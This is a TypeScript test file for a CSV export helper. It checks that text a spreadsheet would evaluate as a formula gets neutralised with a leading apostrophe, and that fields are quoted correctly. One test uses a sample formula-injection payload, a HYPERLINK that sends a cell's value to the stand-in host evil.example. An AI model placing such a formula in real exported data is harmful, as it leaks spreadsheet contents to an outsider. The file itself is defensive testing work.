import { describe, expect, it } from 'vitest';
import { csvField, csvLine, looksLikeFormula, toCsv } from './write.js';

describe('csvField()', () => {
  it('neutralises text that a spreadsheet would evaluate, with a leading apostrophe', () => {
    expect(csvField('=1+2')).toBe("'=1+2");
    expect(csvField('+34 600')).toBe("'+34 600");
    expect(csvField('-x')).toBe("'-x");
    expect(csvField('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(csvField('\tcmd')).toBe("'\tcmd");
    // CR also forces quoting (RFC 4180), after the apostrophe.
    expect(csvField('\r=1')).toBe('"\'\r=1"');
  });

  it('neutralises then quotes a formula that holds commas and quotes', () => {
    const attack = '=HYPERLINK("https://evil.example/?leak="&A2,"click")';
    expect(csvField(attack)).toBe(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""click"")"`);
  });

  it('keeps the sign of numbers and leaves ordinary text alone', () => {
    expect(csvField(-62)).toBe('-62');
    expect(csvField(0.5)).toBe('0.5');
    expect(csvField(true)).toBe('true');
    expect(csvField('62 % más')).toBe('62 % más');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(undefined)).toBe('');
    expect(csvField(null)).toBe('');
  });

  it('quotes fields holding a quote, comma, CR or LF and doubles quotes', () => {
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
  });
});

describe('looksLikeFormula()', () => {
  it('is true for the six characters spreadsheets evaluate first, and only for them', () => {
    expect(['=', '+', '-', '@', '\t', '\r'].map((c) => looksLikeFormula(`${c}1`))).toEqual(
      Array(6).fill(true),
    );
    expect(['1', ' =1', '"=1"', '', '\n'].map(looksLikeFormula)).toEqual(Array(5).fill(false));
  });
});

describe('toCsv()', () => {
  it('writes a header row and CRLF-terminated records', () => {
    const cols = [
      ['id', (r: { id: string; n: number }) => r.id],
      ['n', (r: { id: string; n: number }) => r.n],
    ] as const;
    expect(toCsv(cols, [{ id: 'a,b', n: -1 }])).toBe('id,n\r\n"a,b",-1\r\n');
    expect(csvLine(['x'])).toBe('x\r\n');
  });
});
